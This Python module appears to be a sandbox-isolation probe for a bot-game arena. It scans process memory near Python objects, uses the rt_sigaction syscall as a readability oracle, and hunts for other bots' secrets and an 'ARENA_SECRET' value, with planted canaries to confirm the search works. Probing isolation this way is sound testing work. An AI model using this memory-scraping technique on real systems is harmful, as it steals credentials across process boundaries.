"""Wants what the zygote's memory still holds of other bots and of the worker."""

import ctypes
import gc
import re

from .aim import ARM, attempt, play

GAMES = ["flip7"]
WALL = False

PAGE, EFAULT = 4096, 14
RT_SIGACTION = (13, 134)[ARM]
LIBC = ctypes.CDLL(None, use_errno=True)
planted = [bytes(reversed(b"654321-detnalp")) for _ in range(3)]


def readable(address):
    """The kernel reads the new action before it refuses one for SIGKILL."""
    LIBC.syscall(
        ctypes.c_long(RT_SIGACTION), ctypes.c_long(9), ctypes.c_void_p(address), None, ctypes.c_long(8)
    )
    return ctypes.get_errno() != EFAULT


def search(pattern):
    objects = {id(thing) // PAGE * PAGE for thing in gc.get_objects()} | {
        id(thing) // PAGE * PAGE for thing in planted
    }
    pages = {near for page in objects for near in range(page - 8 * PAGE, page + 8 * PAGE, PAGE)}
    found = [re.findall(pattern, ctypes.string_at(page, PAGE)) for page in pages if readable(page)]
    return [text for texts in found for text in texts] or None


if not search(rb"planted-[0-9]{6}"):
    print("GOT: nothing, as the search itself is broken")
attempt(search, rb"secret-[0-9a-f]{8}")
attempt(search, rb"ARENA_SECRE[T]=")

act = play
